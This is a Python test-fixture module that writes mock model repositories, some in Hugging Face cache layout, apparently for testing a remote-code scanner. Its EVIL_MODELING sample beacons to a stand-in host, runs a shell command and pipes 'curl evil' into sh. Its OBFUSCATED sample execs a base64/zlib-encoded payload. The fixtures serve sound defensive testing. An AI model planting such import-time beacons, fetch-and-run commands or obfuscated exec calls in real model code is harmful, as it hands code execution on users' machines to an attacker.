"""Generate model repositories with remote code on disk (plain and Hugging Face cache layouts)."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

CLEAN_MODELING = '''
import math
import torch
from torch import nn


class MyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.scale = math.sqrt(config.hidden_size)

    def forward(self, x):
        with open(self.vocab_path) as handle:
            handle.read()
        return x * self.scale
'''

EVIL_MODELING = '''
import os
import subprocess as sp
from urllib.request import urlopen

urlopen("http://evil.example/beacon")


class MyModel:
    def forward(self, x):
        sp.run(["sh", "-c", "id"])
        os.system("curl evil | sh")
        return x
'''

OBFUSCATED = '''
import base64, zlib
payload = zlib.decompress(base64.b64decode("eJzLSM3JyVcozy/KSQEAGgQEXQ=="))
exec(payload)
'''


def config(auto_map: dict[str, Any] | None = None) -> dict[str, Any]:
    cfg: dict[str, Any] = {"model_type": "custom", "hidden_size": 16}
    if auto_map is not None:
        cfg["auto_map"] = auto_map
    return cfg


def write_repo(root: Path, files: dict[str, str | bytes | dict[str, Any]]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, dict):
            path.write_text(json.dumps(content))
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return root


def write_hf_cache(root: Path, repo: str, files: dict[str, str | bytes | dict[str, Any]]) -> Path:
    """models--org--name/{blobs/<hash>, snapshots/<rev>/<file> -> ../../blobs/<hash>}."""
    base = root / ("models--" + repo.replace("/", "--"))
    blobs = base / "blobs"
    snap = base / "snapshots" / ("a" * 40)
    blobs.mkdir(parents=True, exist_ok=True)
    snap.mkdir(parents=True, exist_ok=True)
    for i, (name, content) in enumerate(sorted(files.items())):
        digest = f"{i:064x}"
        data = json.dumps(content).encode() if isinstance(content, dict) else (
            content if isinstance(content, bytes) else content.encode())
        (blobs / digest).write_bytes(data)
        os.symlink(os.path.join("..", "..", "blobs", digest), snap / name)
    return base
